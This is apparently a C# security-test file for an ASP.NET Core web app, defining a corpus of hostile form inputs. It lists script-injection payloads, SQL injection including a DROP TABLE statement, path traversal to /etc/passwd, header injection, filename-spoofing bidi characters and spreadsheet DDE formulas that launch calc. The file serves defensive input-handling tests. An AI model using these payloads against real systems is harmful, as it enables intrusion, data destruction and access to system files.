namespace SendImprovement.Web.Tests.Security;

/// <summary>
/// One hostile value for a text field. <see cref="Value"/> is what the server should read; when
/// <see cref="PercentEncoded"/> is given, those bytes are sent instead (bytes that are not valid UTF-8 cannot be
/// written as a .NET string), and <see cref="Value"/> is what ASP.NET Core reads: it keeps a sequence that is not
/// UTF-8 as the "%XX" text that carried it, so nothing is lost or turned into markup.
/// </summary>
public sealed record HostilePayload(string Category, string Name, string Value, string? PercentEncoded = null)
{
    /// <summary>The value as the body of a URL-encoded form carries it.</summary>
    public string Encoded => PercentEncoded ?? Uri.EscapeDataString(Value);

    /// <summary>Whether a spreadsheet would read the value as a formula if it were written into a cell as it is.</summary>
    public bool LooksLikeFormula => HostileInputCorpus.StartsLikeFormula(Value.Trim());

    public override string ToString() => $"{Category}: {Name}";
}

/// <summary>
/// The hostile-input corpus: values chosen to break out of HTML, SQL, file paths, spreadsheets and text handling.
/// Markup payloads carry a marker ("hx" and a number) so that a reflection can be found in a page.
/// </summary>
public static class HostileInputCorpus
{
    public const string Markup = "Script and markup injection";
    public const string Sql = "SQL metacharacters";
    public const string Traversal = "Path traversal";
    public const string Overlong = "Overlong strings";
    public const string Control = "Control characters";
    public const string Bidi = "Bidirectional overrides and invisible characters";
    public const string NullByte = "Null bytes";
    public const string InvalidUtf8 = "Invalid UTF-8";
    public const string Formula = "Spreadsheet formula injection";
    public const string Unicode = "Unicode that must round-trip";

    /// <summary>More than ASP.NET Core reads in one form value (4 MiB).</summary>
    public const int OverFormLimit = (4 * 1024 * 1024) + 16;

    public static IReadOnlyList<HostilePayload> TextPayloads { get; } =
    [
        new(Markup, "script element", "<script>alert('hx01')</script>"),
        new(Markup, "img onerror after closing an attribute", "\"><img src=x onerror=alert('hx02')>"),
        new(Markup, "double-quoted attribute breakout", "\" onmouseover=\"alert('hx03')\" data-x=\""),
        new(Markup, "single-quoted attribute breakout", "' onfocus='alert(`hx04`)' autofocus='"),
        new(Markup, "svg onload", "<svg/onload=alert('hx05')>"),
        new(Markup, "javascript: URL", "javascript:alert('hx06')"),
        new(Markup, "closing a textarea", "</textarea><script>alert('hx07')</script>"),
        new(Markup, "closing the title", "</title><script>alert('hx08')</script>"),
        new(Markup, "already-encoded markup", "&lt;script&gt;alert('hx09')&lt;/script&gt;"),
        new(Markup, "template and Razor expressions", "{{constructor.constructor('alert(10)')()}} @(1+1) ${7*7} <%= 7*7 %>"),
        new(Markup, "iframe", "<iframe src=\"https://example.invalid/hx11\"></iframe>"),
        new(Markup, "style element", "<style>body{display:none}</style>hx12"),
        new(Markup, "comment and CDATA", "<!-- hx13 --><![CDATA[<script>alert('hx13')</script>]]>"),
        new(Markup, "fullwidth angle brackets", "\uFF1Cscript\uFF1Ealert('hx14')\uFF1C/script\uFF1E"),
        new(Markup, "percent-encoded markup", "%3Cscript%3Ealert('hx15')%3C/script%3E"),
        new(Sql, "always-true condition", "' OR '1'='1"),
        new(Sql, "statement terminator and drop", "'; DROP TABLE \"PlanItems\"; --"),
        new(Sql, "double-quoted identifier breakout", "\" OR \"\"=\""),
        new(Sql, "LIKE wildcards and escapes", "%' AND 1=1 -- _%\\"),
        new(Sql, "backslash-escaped quote", "\\'; SELECT 1; --"),
        new(Traversal, "Unix parent folders", "../../../../etc/passwd"),
        new(Traversal, "Windows parent folders", "..\\..\\..\\windows\\win.ini"),
        new(Overlong, "10,000 letters", new string('a', 10_000)),
        new(Overlong, "100,000 letters", new string('b', 100_000)),
        new(Overlong, "over the 4 MiB form value limit", new string('c', OverFormLimit)),
        new(Overlong, "stacked combining marks", "Z" + string.Concat(Enumerable.Repeat("\u0301\u0316\u0334", 500))),
        new(Control, "C0 controls and an ANSI escape", "bell\u0007 back\u0008 esc\u001B[31m red"),
        new(Control, "header injection with CR LF", "Line one\r\nSet-Cookie: hx=27"),
        new(Control, "tab, vertical tab and form feed inside", "a\tb\u000Bc\u000Cd"),
        new(Control, "DEL and C1 controls", "del\u007F nel\u0085 csi\u009B"),
        new(Control, "white space only", " \t \u00A0 "),
        new(Bidi, "right-to-left override", "invoice\u202Egpj.exe"),
        new(Bidi, "isolates and direction marks", "\u2066abc\u2069 \u200Fdef\u200E"),
        new(Bidi, "zero-width characters", "zero\u200Bwidth\u200C\u200Djoin\uFEFF"),
        new(NullByte, "null byte inside", "Before\0after"),
        new(NullByte, "null byte alone", "\0"),
        new(InvalidUtf8, "invalid continuation bytes", "A%C3(%A0%A1%FF%FEZ", "A%C3%28%A0%A1%FF%FEZ"),
        new(InvalidUtf8, "overlong encoding of angle brackets", "%C0%BCscript%C0%BE", "%C0%BCscript%C0%BE"),
        new(InvalidUtf8, "encoded lone surrogate", "x%ED%A0%80y", "x%ED%A0%80y"),
        new(Formula, "equals with HYPERLINK", "=HYPERLINK(\"https://example.invalid/?x=\"&A1,\"Click\")"),
        new(Formula, "plus with DDE", "+cmd|' /C calc'!A0"),
        new(Formula, "minus with DDE", "-2+3+cmd|' /C calc'!A0"),
        new(Formula, "at sign", "@SUM(1+1)*cmd|' /C calc'!A0"),
        new(Unicode, "emoji and joiners", "Family \U0001F468\u200D\U0001F469\u200D\U0001F467 \U0001F44D\U0001F3FD"),
        new(Unicode, "Arabic and Hebrew", "\u0645\u0631\u062D\u0628\u0627 \u05E9\u05DC\u05D5\u05DD"),
    ];

    public static bool StartsLikeFormula(string text) => text.Length > 0 && text[0] is '=' or '+' or '-' or '@';

    /// <summary>Messages that say something failed without saying what: never acceptable as a refusal.</summary>
    public static readonly string[] GenericMessages =
    [
        "something went wrong",
        "an error occurred",
        "an unexpected error",
        "the request was not valid",
        "there is a problem with the service",
        "try again later",
    ];

    public static bool IsSpecific(string message) =>
        message.Length >= 12 && !GenericMessages.Any(g => message.Contains(g, StringComparison.OrdinalIgnoreCase));
}
